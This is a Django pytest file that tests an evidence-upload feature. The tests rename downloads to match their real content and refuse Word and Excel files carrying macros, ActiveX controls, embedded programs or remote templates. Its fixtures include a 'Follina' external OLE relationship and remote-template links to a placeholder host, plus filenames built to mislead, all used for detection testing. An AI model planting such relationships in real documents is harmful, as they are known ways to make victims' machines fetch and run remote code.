"""An evidence file downloads under a name that says what it is (campaigns.reporting.evidence):
the person's own name is shown on the page, the download ends in the extension of the content;
and Word or Excel files that carry macros, controls or embedded programs are refused."""

import io
import re
import uuid
import zipfile
from datetime import date
from urllib.parse import unquote

import pytest
import time_machine
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from openpyxl import Workbook

from campaigns.models import StudySession
from campaigns.reporting.evidence import DOCX, JPEG, PDF, PNG, XLSX, download_name
from tests.factories import StudySessionFactory

pytestmark = pytest.mark.django_db

PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG_BYTES = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG_BYTES = b"\xff\xd8\xff\xe0" + b"\x00" * 32
MACRO_REFUSAL_EN = "contains macros, ActiveX controls or embedded programs, which are not accepted"


@pytest.fixture(autouse=True)
def in_2024():
    with time_machine.travel(date(2024, 5, 20), tick=False):
        yield


def real_docx() -> bytes:
    document = Document()
    document.add_paragraph("Biên bản hội nghị học tập chuyên đề năm 2024.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def real_xlsx() -> bytes:
    workbook = Workbook()
    workbook.active.append(["Đơn vị", "Số đảng viên"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def altered(package: bytes, *, add: dict[str, bytes] = (), content_types=None) -> bytes:
    """The Office file with parts added (or replaced) and [Content_Types].xml rewritten by
    `content_types`."""
    source = zipfile.ZipFile(io.BytesIO(package))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in dict(add):
                continue
            data = source.read(info)
            if info.filename == "[Content_Types].xml" and content_types:
                data = content_types(data)
            target.writestr(info.filename, data)
        for name, data in dict(add).items():
            target.writestr(name, data)
    return buffer.getvalue()


def macro_enabled(kind: str):
    """The main part declared as a macro-enabled one, as Word and Excel write .docm and .xlsm."""
    plain = {
        "word": b"wordprocessingml.document.main+xml",
        "xl": b"spreadsheetml.sheet.main+xml",
    }[kind]
    macro = {
        "word": b"ms-word.document.macroEnabled.main+xml",
        "xl": b"ms-excel.sheet.macroEnabled.main+xml",
    }[kind]

    def rewrite(xml: bytes) -> bytes:
        assert plain in xml
        return xml.replace(b"vnd.openxmlformats-officedocument." + plain, b"vnd." + macro)

    return rewrite


SETTINGS_RELS_WITH_REMOTE_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://203.0.113.9/template.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def relationships(*, type_: str, target: str, quote: str = '"', spaced: bool = False) -> str:
    """A .rels part with one relationship, its attributes quoted and spaced as given (all
    valid XML, read alike by Office)."""
    equals = " = " if spaced else "="
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"<Relationship Id{equals}{quote}rId9{quote} "
        f"Type{equals}{quote}http://schemas.openxmlformats.org/officeDocument/2006/"
        f"relationships/{type_}{quote} Target{equals}{quote}{target}{quote} "
        f"TargetMode{equals}{quote}External{quote}/></Relationships>"
    )


#: The "Follina" pattern: an external OLE object in the document's own relationships.
FOLLINA_RELS = relationships(type_="oleObject", target="http://203.0.113.9/x.html!").encode()
REMOTE_TEMPLATE_SINGLE_QUOTED = relationships(
    type_="attachedTemplate", target="http://203.0.113.9/t.dotm", quote="'"
).encode()
REMOTE_TEMPLATE_SPACED = relationships(
    type_="attachedTemplate", target="http://203.0.113.9/t.dotm", spaced=True
).encode()
REMOTE_TEMPLATE_UTF16 = (
    relationships(type_="attachedTemplate", target="http://203.0.113.9/t.dotm")
    .replace('encoding="UTF-8"', 'encoding="UTF-16"')
    .encode("utf-16")
)
EXTERNAL_HYPERLINK = relationships(
    type_="hyperlink", target="https://dongda.hanoi.gov.vn/"
).encode()


def session_data(**overrides):
    return {
        "held_on": "15/03/2024",
        "kind": "regular",
        "format": "in_person",
        "presenter": "Đồng chí Nguyễn Thị Hoà",
        "members_expected": "40",
        "attendees": "39",
        "submission_key": str(uuid.uuid4()),
        **overrides,
    }


def new_session_url(unit, lang="en"):
    return f"/{lang}/units/{unit.code}/sessions/new/"


def file_url(item, lang="en"):
    url = reverse(
        "reports:file", kwargs={"code": item.unit.code, "kind": "sessions", "pk": item.pk}
    )
    return url.replace("/vi/", f"/{lang}/", 1)


def downloaded_name(response) -> str:
    disposition = response["Content-Disposition"]
    if match := re.search(r"filename\*=utf-8''([^;]+)", disposition):
        return unquote(match.group(1))
    return re.search(r'filename="([^"]*)"', disposition).group(1)


def stored_files(root) -> list:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


# --- the download name ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "downloaded", "content_type"),
    [
        ("bien-ban.cmd", PDF_BYTES, "bien-ban.pdf", "application/pdf"),
        ("anh-hoi-nghi.hta", PNG_BYTES, "anh-hoi-nghi.png", "image/png"),
        ("bao-cao.pdf.lnk", PDF_BYTES, "bao-cao.pdf", "application/pdf"),
        ("so-lieu.xls", real_xlsx(), "so-lieu.xlsx", XLSX.content_type),
        ("ke-hoach.docm", real_docx(), "ke-hoach.docx", DOCX.content_type),
        ("Biên bản số 1.pdf", PDF_BYTES, "Biên bản số 1.pdf", "application/pdf"),
        ("Biên bản 12.3.2024", PDF_BYTES, "Biên bản 12.3.2024.pdf", "application/pdf"),
        ("Ảnh.JPEG", JPEG_BYTES, "Ảnh.JPEG", "image/jpeg"),
        ("bien-ban.pdf. . ", PDF_BYTES, "bien-ban.pdf", "application/pdf"),
    ],
)
def test_a_download_ends_in_the_extension_of_what_the_file_is(
    client, district, campaign, cell_secretary, name, content, downloaded, content_type
):
    client.force_login(cell_secretary)
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    response = client.post(new_session_url(district.cell), session_data(minutes=upload))
    assert response.status_code == 302
    session = StudySession.objects.get()
    # The person's own name is what the pages show.
    assert session.minutes_name == name.strip()
    detail = client.get(response["Location"]).content.decode()
    assert f'data-testid="evidence-link">{name.strip()}</a>' in detail.replace("&#x27;", "'")
    download = client.get(file_url(session))
    assert download.status_code == 200
    assert downloaded_name(download) == downloaded
    assert download["Content-Type"] == content_type
    assert b"".join(download.streaming_content) == content


def test_a_row_stored_before_this_rule_downloads_under_the_new_name(
    client, district, campaign, cell_secretary
):
    """Names are made when the file is downloaded: rows kept with a lying name need no
    migration."""
    session = StudySessionFactory(campaign=campaign, unit=district.cell, minutes_name="x.cmd")
    session.minutes.save("evidence.pdf", ContentFile(PDF_BYTES))
    client.force_login(cell_secretary)
    download = client.get(file_url(session))
    assert downloaded_name(download) == "x.pdf"


def test_a_stored_file_of_no_accepted_type_downloads_as_inert_bytes(
    client, district, campaign, cell_secretary
):
    """A file that reached the disk some other way (an older upload, a hand-copied file) is
    named by its content, which here is nothing we accept: no program claims `.bin`."""
    session = StudySessionFactory(campaign=campaign, unit=district.cell, minutes_name="cai-dat.exe")
    session.minutes.save("evidence.pdf", ContentFile(b"MZ\x90\x00 a Windows program"))
    client.force_login(cell_secretary)
    download = client.get(file_url(session))
    assert download.status_code == 200
    assert downloaded_name(download) == "cai-dat.bin"
    assert download["Content-Type"] == "application/octet-stream"


@pytest.mark.parametrize(
    ("display_name", "kind", "expected"),
    [
        (".pdf", PDF, "f00d.pdf"),  # nothing but an extension: the stored file's name stands in
        (".cmd", PDF, "f00d.pdf"),
        ("", PNG, "f00d.png"),
        ("bao-cao.exe.cmd", PDF, "bao-cao.exe.pdf"),  # only the last one is an extension
        ("Quyết định số 12-QĐ", PDF, "Quyết định số 12-QĐ.pdf"),
        ("Báo cáo v1.5 final", PDF, "Báo cáo v1.5 final.pdf"),
        ("scan.jpeg", JPEG, "scan.jpeg"),
        ("scan.jpg", PNG, "scan.png"),
        ("Quy-che.DOCX", DOCX, "Quy-che.DOCX"),
        ("setup.exe", None, "setup.bin"),
    ],
)
def test_download_name(display_name, kind, expected):
    assert download_name(display_name, kind, fallback="f00d") == expected


# --- macros and embedded programs ----------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param(
            "bien-ban.docx",
            altered(real_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA"}),
            id="docx-with-vba-project",
        ),
        pytest.param(
            "bien-ban.docx",
            altered(real_docx(), content_types=macro_enabled("word")),
            id="docm-content-type",
        ),
        pytest.param(
            "so-lieu.xlsx",
            altered(
                real_xlsx(),
                add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA"},
                content_types=macro_enabled("xl"),
            ),
            id="xlsm",
        ),
        pytest.param(
            "so-lieu.xlsx",
            altered(real_xlsx(), add={"xl/macrosheets/sheet2.xml": b"<xm:macrosheet/>"}),
            id="excel-4-macro-sheet",
        ),
        pytest.param(
            "bien-ban.docx",
            altered(real_docx(), add={"word/activeX/activeX1.xml": b"<ax:ocx/>"}),
            id="activex-control",
        ),
        pytest.param(
            "bien-ban.docx",
            altered(real_docx(), add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
            id="ole-package",
        ),
        pytest.param(
            "bien-ban.docx",
            altered(
                real_docx(),
                add={"word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm": b"PK"},
            ),
            id="embedded-docm",
        ),
        pytest.param(
            "bien-ban.docx",
            altered(
                real_docx(),
                add={"word/_rels/settings.xml.rels": SETTINGS_RELS_WITH_REMOTE_TEMPLATE},
            ),
            id="remote-template",
        ),
        pytest.param(
            "bien-ban.docx",
            altered(real_docx(), add={"word/_rels/document.xml.rels": FOLLINA_RELS}),
            id="external-ole-object-follina",
        ),
        pytest.param(
            "bien-ban.docx",
            altered(
                real_docx(), add={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_SINGLE_QUOTED}
            ),
            id="remote-template-single-quoted",
        ),
        pytest.param(
            "bien-ban.docx",
            altered(real_docx(), add={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_SPACED}),
            id="remote-template-spaced",
        ),
        pytest.param(
            "bien-ban.docx",
            altered(real_docx(), add={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_UTF16}),
            id="remote-template-utf16",
        ),
    ],
)
def test_office_files_with_macros_or_programs_are_refused(
    client, district, campaign, cell_secretary, settings, name, content
):
    client.force_login(cell_secretary)
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    response = client.post(new_session_url(district.cell), session_data(minutes=upload))
    assert response.status_code == 400
    assert f"“{name}” {MACRO_REFUSAL_EN}" in response.content.decode()
    assert StudySession.objects.count() == 0
    assert stored_files(settings.PRIVATE_MEDIA_ROOT) == []


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(real_docx(), id="plain-docx"),
        pytest.param(
            altered(
                real_docx(),
                add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": real_xlsx()},
            ),
            id="docx-with-a-chart's-sheet",
        ),
        pytest.param(
            altered(real_docx(), add={"word/_rels/footnotes.xml.rels": EXTERNAL_HYPERLINK}),
            id="docx-with-a-link-to-a-web-page",
        ),
    ],
)
def test_ordinary_word_files_are_accepted(client, district, campaign, cell_secretary, content):
    client.force_login(cell_secretary)
    upload = SimpleUploadedFile("bien-ban.docx", content)
    response = client.post(new_session_url(district.cell), session_data(minutes=upload))
    assert response.status_code == 302
    assert StudySession.objects.get().minutes.name.endswith(".docx")


def test_the_admin_takes_no_evidence_file(admin_client, district, campaign):
    """Evidence comes in through the report pages, where it is checked; the admin page shows
    the file but offers no way to replace it."""
    session = StudySessionFactory(campaign=campaign, unit=district.cell, minutes_name="bb.pdf")
    session.minutes.save("evidence.pdf", ContentFile(PDF_BYTES))
    response = admin_client.get(reverse("admin:campaigns_studysession_change", args=[session.pk]))
    assert response.status_code == 200
    page = response.content.decode()
    assert 'name="presenter"' in page  # the form is there, editable
    assert session.minutes.name in page  # the file is shown
    assert 'type="file"' not in page
